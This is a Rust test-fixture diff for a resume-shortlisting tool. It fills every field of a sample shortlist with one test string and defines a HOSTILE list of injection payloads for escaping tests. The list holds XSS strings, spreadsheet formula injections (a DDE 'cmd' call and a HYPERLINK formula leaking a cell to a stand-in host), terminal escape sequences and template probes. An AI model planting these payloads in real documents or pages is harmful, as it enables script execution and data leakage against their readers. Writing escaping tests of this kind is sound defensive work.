@@ -1,0 +1,184 @@
+//! A shortlist for tests, with one text in every place where a resume, a file name or a role can put one.
+
+use crate::assessment::{Asked, Assessment, Finding};
+use crate::criteria::{Eligible, Verdict};
+use crate::date::{Month, Span};
+use crate::digest::{
+    CertificateShown, DegreeShown, Digest, Evidence, ExperienceShown, FieldShown, GapShown, HiddenShown, LanguageShown,
+    LeadershipShown, OverlapShown, PositionShown, SkillShown, SoftSkillShown,
+};
+use crate::document::{Reason, Unread, Warning};
+use crate::lexicon::Level;
+use crate::profile::SkillState;
+use crate::resume::Contact;
+use crate::shortlist::{Candidate, Duplicate, Ranked, Run, Shortlist, UnreadFile};
+use serde_json::{Value, json};
+use std::path::PathBuf;
+
+/// Two candidates, a duplicate and an unread file, all of whose words are `text`.
+pub(super) fn sample(text: &str) -> Shortlist {
+    let asked = |required, share| Asked { label: text.into(), kind: "skill", required, weight: share / 10, share };
+    Shortlist {
+        run: Run {
+            role: text.into(),
+            criteria_hash: "c0ffee".into(),
+            criteria: vec![asked(true, 60_000), asked(false, 40_000)],
+            interview: bank(text),
+            market: Value::Null,
+            as_of: Month::new(2024, 1),
+            blind: false,
+        },
+        ranked: vec![
+            Ranked { rank: 1, candidate: candidate(text, 1) },
+            Ranked { rank: 2, candidate: candidate(text, 2) },
+        ],
+        duplicates: vec![Duplicate {
+            path: PathBuf::from(text),
+            of: PathBuf::from(text),
+            reason: "same bytes",
+            hash: "abc1".into(),
+        }],
+        unread: vec![UnreadFile { path: PathBuf::from(text), unread: Unread::new(Reason::Damaged, text) }],
+    }
+}
+
+fn bank(text: &str) -> Value {
+    json!({
+        "screening": [text],
+        "technical": [{ "question": text, "about": [text], "look_for": [text] }],
+        "behavioural": [text],
+        "look_for": [text],
+        "pitfalls": [text],
+    })
+}
+
+fn candidate(text: &str, at: u32) -> Candidate {
+    let lines = |n: u32| (1..=n).map(|line| Evidence { page: 1, line, quote: text.into() }).collect::<Vec<_>>();
+    let finding = |required, share, degree, verdict| Finding {
+        criterion: text.into(),
+        kind: "skill",
+        required,
+        weight: share / 10,
+        share,
+        degree,
+        points: share * degree / 1000,
+        verdict,
+        passes: Eligible::Unclear,
+        note: text.into(),
+        evidence: lines(4),
+    };
+    Candidate {
+        path: PathBuf::from(text),
+        hash: format!("abc{at}"),
+        text_hash: format!("def{at}"),
+        format: "txt",
+        pages: 1,
+        contact: Contact {
+            name: Some(text.into()),
+            emails: vec![text.into()],
+            phones: vec![text.into()],
+            links: vec![text.into()],
+            location: Some(text.into()),
+        },
+        digest: digest(text, &lines(3)),
+        assessment: Assessment {
+            findings: vec![finding(true, 60_000, 1000, Verdict::Met), finding(false, 40_000, 500, Verdict::Partly)],
+            score: 80_000,
+            eligible: Eligible::Unclear,
+        },
+        warnings: vec![Warning::new("old-document", text)],
+    }
+}
+
+fn digest(text: &str, evidence: &[Evidence]) -> Digest {
+    let position = |from: Month, to: Month| PositionShown {
+        title: Some(text.into()),
+        employer: Some(text.into()),
+        start: Some(from.to_string()),
+        end: Some(to.plus(-1).to_string()),
+        kind: "job",
+        leads: true,
+        months: Some(to.since(from).unsigned_abs()),
+        lines: [1, 2],
+        span: Some(Span { from, to }),
+    };
+    let skill = |state| SkillShown {
+        name: text.into(),
+        state,
+        implied_by: (state == SkillState::Implied).then(|| text.into()),
+        months: 24,
+        last_used: Some("2020-06".into()),
+        stated_years: None,
+        hedged: false,
+        evidence: evidence.to_vec(),
+    };
+    let gap = Span { from: Month::new(2018, 1), to: Month::new(2019, 1) };
+    Digest {
+        positions: vec![
+            position(Month::new(2019, 1), Month::new(2022, 7)),
+            position(Month::new(2014, 3), Month::new(2018, 1)),
+        ],
+        gaps: vec![GapShown {
+            start: Some("2018-01".into()),
+            end: Some("2018-12".into()),
+            months: gap.months(),
+            span: Some(gap),
+        }],
+        overlaps: vec![OverlapShown { positions: [0, 1], months: 4 }],
+        experience: ExperienceShown {
+            months: 88,
+            min_months: 80,
+            max_months: 90,
+            stated_years: None,
+            fields: vec![FieldShown { name: text.into(), months: 88 }],
+        },
+        leadership: LeadershipShown { months: 30, team_size: Some(7), level: Level::Lead, evidence: evidence.to_vec() },
+        skills: [SkillState::Evidenced, SkillState::Listed, SkillState::Implied].map(skill).to_vec(),
+        soft_skills: vec![SoftSkillShown { name: text.into(), state: "claimed", evidence: evidence.to_vec() }],
+        education: vec![DegreeShown {
+            level: "bachelor",
+            field: Some(text.into()),
+            institution: Some(text.into()),
+            end: Some("2012".into()),
+        }],
+        certifications: vec![CertificateShown { name: text.into(), year: Some("2019".into()) }],
+        languages: vec![LanguageShown { name: text.into(), level: Some("fluent") }],
+        hidden: vec![HiddenShown { page: 1, reason: "white-text", quote: text.into() }],
+    }
+}
+
+/// Texts that try to be more than words, one for each way into a page, a sheet or a terminal.
+pub(super) const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)//",
+    "</style></title></details></li></ol>",
+    "<img src=x onerror=alert(1)>",
+    "\" onmouseover=\"alert(1)\" x=\"",
+    "' onfocus='alert(1)",
+    "<!-- x",
+    "]]>",
+    "javascript:alert(1)",
+    "&lt;b&gt;&#60;b&#62;",
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"Jordan\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd",
+    "\t=1+1",
+    "\r=1+1",
+    "\u{ff1d}1+1",
+    "\"=1+1",
+    "Jordan,\"=1+1\",x",
+    ";=1+1",
+    "  =1+1",
+    "Jordan\n=1+1",
+    "'=1+1",
+    "\u{200b}=1+1",
+    "\u{1b}]0;own\u{7}\u{1b}[2J\u{1b}[31mJordan",
+    "\u{9b}31mJordan",
+    "Jordan\0Example",
+    "Jordan\u{202e}elpmaxE",
+    "Jordan\u{2028}=1+1",
+    "| a | b |\n|---|---|\n# h\n- x\n1. y [l](javascript:x) ![i](http://x) `c` *b* _i_ ~~s~~ <b>",
+    "_x000D_=1+1",
+    "{{7*7}}${7*7}%s%n",
+];
